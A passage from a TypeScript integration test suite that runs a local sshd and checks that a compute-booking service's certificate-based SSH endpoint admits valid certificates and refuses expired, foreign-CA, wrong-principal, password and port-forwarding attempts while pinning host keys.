      `  AuthorizedKeysCommand /bin/cat ${join(dir, "authorized_keys")}`,
      "  AuthorizedKeysCommandUser root",
      "  DisableForwarding no",
      "  AllowTcpForwarding yes",
      "",
    ].join("\n");
    writeFileSync(join(dir, "sshd_config"), cfg);

    const ep = buildSshEndpoint({
      bookingId: 777n,
      host: "127.0.0.1",
      port,
      user: USER,
      hostPublicKeys: hostKeys.map((k) => k.publicKey),
      certificate: signUserCertificate({
        ca,
        borrowerKey: K.ed25519.pub,
        principal: USER,
        validAfter: NOW - 60,
        validBefore: NOW + 3600,
        keyId: "computehive:test:booking:777",
        serial: 777n,
      }),
    });
    endpoint = ep;
    knownHosts = join(dir, files.knownHosts);
    writeFileSync(join(dir, files.certificate), `${ep.certificate}\n`);
    writeFileSync(knownHosts, knownHostsText(ep));
    writeFileSync(ctlKnownHosts, knownHostsText({ ...ep, port: ctlPort }));

    sshd = spawn(SSHD, ["-D", "-e", "-f", join(dir, "sshd_config")], { stdio: ["ignore", "ignore", "pipe"] });
    sshd.stderr?.setEncoding("utf8");
    sshd.stderr?.on("data", (d: string) => {
      log += d;
    });
    const exited = new Promise<never>((_, reject) =>
      sshd?.once("exit", (c) => reject(new Error(`sshd exited (${c}):\n${log}`))),
    );
    exited.catch(() => {});
    const deadline = Date.now() + 10_000;
    while ((log.match(/Server listening on/g) ?? []).length < 2) {
      if (Date.now() > deadline) throw new Error(`sshd did not start:\n${log}`);
      await Promise.race([new Promise((r) => setTimeout(r, 50)), exited]);
    }
  });

  after(() => {
    if (sshd?.pid !== undefined && sshd.exitCode === null) sshd.kill("SIGTERM");
  });

  /** ssh with host-key pinning (the endpoint's known_hosts), batch mode, no user/system config. */
  const ssh = (opts: {
    key?: string;
    cert?: string;
    p?: number;
    extra?: string[];
    cmd?: string[];
    kh?: string;
  }) =>
    runSsh(
      [
        "-F",
        "/dev/null",
        "-o",
        "BatchMode=yes",
        "-o",
        "StrictHostKeyChecking=yes",
        "-o",
        `UserKnownHostsFile=${opts.kh ?? (opts.p === ctlPort ? ctlKnownHosts : knownHosts)}`,
        "-o",
        "IdentitiesOnly=yes",
        "-o",
        "ConnectTimeout=10",
        ...(opts.key ? ["-i", opts.key] : []),
        ...(opts.cert ? ["-o", `CertificateFile=${opts.cert}`] : []),
        ...(opts.extra ?? []),
        "-p",
        String(opts.p ?? port),
        `${USER}@127.0.0.1`,
        ...(opts.cmd ?? ["echo", "ok"]),
      ],
      dir,
    );

  const certFile = (
    name: string,
    req: Partial<Parameters<typeof signUserCertificate>[0]> & { key: GenKey },
  ) => {
    const text = signUserCertificate({
      ca,
      borrowerKey: req.key.pub,
      principal: USER,
      validAfter: NOW - 60,
      validBefore: NOW + 3600,
      keyId: name,
      serial: 1,
      ...req,
    });
    const f = join(dir, `${name}-cert.pub`);
    writeFileSync(f, `${text}\n`);
    return f;
  };

  const refused = (a: Attempt) => {
    assert.equal(a.code, 255, `expected a refusal, got ${a.code}: ${a.stdout}${a.stderr}`);
    assert.match(a.stderr, /Permission denied \(publickey\)/);
  };

  /** The sshd log lines written while `fn` ran. */
  async function logDuring(fn: () => Promise<void>): Promise<string> {
    const from = log.length;
    await fn();
    await new Promise((r) => setTimeout(r, 100));
    return log.slice(from);
  }

  test("the endpoint's own sshCommand logs in with key + certificate and pins the host key", async () => {
    // Exactly the suggested command, with the borrower's key path filled in, run where the two files
    // were saved; only -F /dev/null and BatchMode are added (no user config, no prompts).
    const argv = endpoint.sshCommand.replace("~/.ssh/id_ed25519", K.ed25519.path).split(" ");
    assert.equal(argv[0], "ssh");
    let a: Attempt | undefined;
    const seen = await logDuring(async () => {
      a = await runSsh(["-F", "/dev/null", "-o", "BatchMode=yes", ...argv.slice(1), "echo", "ok"], dir);
    });
    assert.equal(a?.code, 0, `${a?.stderr}\n--- sshd ---\n${seen}`);
    assert.equal(a?.stdout, "ok\n");
    const fp = validateBorrowerKey(K.ed25519.pub);
    assert.ok(fp.ok);
    // VERBOSE logging records which certificate (key id, serial) and which CA let the borrower in.
    assert.ok(
      seen.includes(
        `Accepted publickey for ${USER} from 127.0.0.1 port ${/port (\d+)/.exec(seen.slice(seen.indexOf("Accepted")))?.[1]} ssh2: ED25519-CERT ${fp.fingerprint} ID computehive:test:booking:777 (serial 777) CA ED25519 ${ca.fingerprint}`,
      ),
      seen,
    );
  });

  for (const [name, k] of [
    ["ecdsa P-256", K.p256],
    ["ecdsa P-384", K.p384],
    ["ecdsa P-521", K.p521],
    ["rsa 3072", K.rsa3072],
  ] as const) {
    test(`a ${name} borrower key with its certificate logs in`, async () => {
      const a = await ssh({ key: k.path, cert: certFile(`t-${name.replace(/ /g, "")}`, { key: k }) });
      assert.equal(a.code, 0, a.stderr);
      assert.equal(a.stdout, "ok\n");
    });
  }

  test("the session gets a terminal (permit-pty)", async () => {
    const a = await ssh({
      key: K.ed25519.path,
      cert: join(dir, files.certificate),
      extra: ["-tt"],
      cmd: ["tty"],
    });
    assert.equal(a.code, 0, a.stderr);
    assert.match(a.stdout, /^\/dev\/pts\/\d+\r?\n$/);
  });

  test("a certificate from another CA is refused", async () => {
    const f = join(dir, "other-cert.pub");
    writeFileSync(
      f,
      `${signUserCertificate({ ca: otherCa, borrowerKey: K.ed25519.pub, principal: USER, validAfter: NOW - 60, validBefore: NOW + 3600, keyId: "other", serial: 1 })}\n`,
    );
    const seen = await logDuring(async () => refused(await ssh({ key: K.ed25519.path, cert: f })));
    // sshd names the CA it did not trust (the reason itself is only logged at DEBUG).
    assert.match(
      seen,
      new RegExp(
        `Failed publickey for ${USER} .* ID other \\(serial 1\\) CA ED25519 ${otherCa.fingerprint.replace(/[+/]/g, "\\$&")}`,
      ),
    );
    assert.doesNotMatch(seen, /Accepted/);
  });

  test("a bare key is refused; the same key works where authorized_keys is allowed (control)", async () => {
    refused(await ssh({ key: K.ed25519.path }));
    let ctl: Attempt | undefined;
    const seen = await logDuring(async () => {
      ctl = await ssh({ key: K.ed25519.path, p: ctlPort });
    });
    assert.equal(ctl?.code, 0, `control login failed: ${ctl?.stderr}\n--- sshd ---\n${seen}`);
  });

  test("an expired certificate is refused", async () => {
    const f = certFile("expired", { key: K.ed25519, validAfter: NOW - 3600, validBefore: NOW - 60 });
    const seen = await logDuring(async () => refused(await ssh({ key: K.ed25519.path, cert: f })));
    assert.match(seen, /Certificate invalid: expired/);
  });

  test("a certificate whose window has not begun is refused", async () => {
    const f = certFile("future", { key: K.ed25519, validAfter: NOW + 600, validBefore: NOW + 3600 });
    const seen = await logDuring(async () => refused(await ssh({ key: K.ed25519.path, cert: f })));
    assert.match(seen, /Certificate invalid: not yet valid/);
  });

  /** Waits for the start of a wall-clock second, so a login (~0.3 s) happens within it. */
  async function secondStart(): Promise<number> {
    const ms = Date.now() % 1000;
    if (ms > 50) await new Promise((r) => setTimeout(r, 1000 - ms + 5));
    return Math.floor(Date.now() / 1000);
  }

  test("in sshd too, a window is [start, end) to the second", async (t) => {
    // A window that ends at the current second is refused (valid_before is exclusive) …
    let now = await secondStart();
    const edge = certFile("edge", { key: K.ed25519, validAfter: now - 60, validBefore: now });
    const seen = await logDuring(async () => refused(await ssh({ key: K.ed25519.path, cert: edge })));
    assert.match(seen, /Certificate invalid: expired/);
    // … and a one-second window [now, now + 1) admits a login made within that second (valid_after is
    // inclusive). Retried if a slow machine let the login slip into the next second.
    for (let attempt = 1; ; attempt++) {
      now = await secondStart();
      const one = certFile(`one-second-${attempt}`, {
        key: K.ed25519,
        validAfter: now,
        validBefore: now + 1,
      });
      const a = await ssh({ key: K.ed25519.path, cert: one });
      if (Math.floor(Date.now() / 1000) === now || a.code === 0) {
        assert.equal(a.code, 0, a.stderr);
        assert.equal(a.stdout, "ok\n");
        break;
      }
      t.diagnostic(`login took past the second (attempt ${attempt}); retrying`);
      if (attempt === 3) assert.fail("could not log in within one wall-clock second three times");
    }
  });

  test("a certificate for another principal is refused", async () => {
    const f = certFile("alice", { key: K.ed25519, principal: "alice" });
    const seen = await logDuring(async () => refused(await ssh({ key: K.ed25519.path, cert: f })));
    assert.match(seen, /not a listed principal/);
  });

  test("passwords and keyboard-interactive are not even offered", async () => {
    const a = await ssh({ extra: ["-o", "PreferredAuthentications=password,keyboard-interactive"] });
    assert.equal(a.code, 255);
    assert.match(a.stderr, /Permission denied \(publickey\)\./);
  });

  test("no port forwarding: refused by the config, and by the certificate alone (control allows it)", async () => {
    const fwd = ["-o", "ExitOnForwardFailure=yes", "-W", `127.0.0.1:${port}`];
    const cert = join(dir, files.certificate);
    const viaMain = await ssh({ key: K.ed25519.path, cert, extra: fwd, cmd: [] });
    assert.notEqual(viaMain.code, 0);
    assert.doesNotMatch(viaMain.stdout, /SSH-2\.0-OpenSSH/);
    // The control port's sshd allows forwarding: with the certificate it is still refused …
    const viaCtlCert = await ssh({ key: K.ed25519.path, cert, p: ctlPort, extra: fwd, cmd: [] });
    assert.notEqual(viaCtlCert.code, 0);
    assert.doesNotMatch(viaCtlCert.stdout, /SSH-2\.0-OpenSSH/);
    assert.match(viaCtlCert.stderr, /administratively prohibited|open failed/);
    // … while a bare key (no certificate restrictions) gets through, so the refusal above is the cert's.
    const viaCtlKey = await ssh({ key: K.ed25519.path, p: ctlPort, extra: fwd, cmd: [] });
    assert.match(viaCtlKey.stdout, /^SSH-2\.0-OpenSSH/, viaCtlKey.stderr);
  });

  test("a different host key fails host verification (the pin works)", async () => {
    const wrong = join(dir, "wrong.known_hosts");
    writeFileSync(
      wrong,
      knownHostsText({
        ...endpoint,
        hostKeys: [generateHostKeys()[0]?.publicKey.split(" ").slice(0, 2).join(" ") as string],
      }),
    );
    const a = await ssh({ key: K.ed25519.path, cert: join(dir, files.certificate), kh: wrong });
    assert.equal(a.code, 255);
    assert.match(a.stderr, /Host key verification failed|HOST IDENTIFICATION HAS CHANGED/);
  });
});
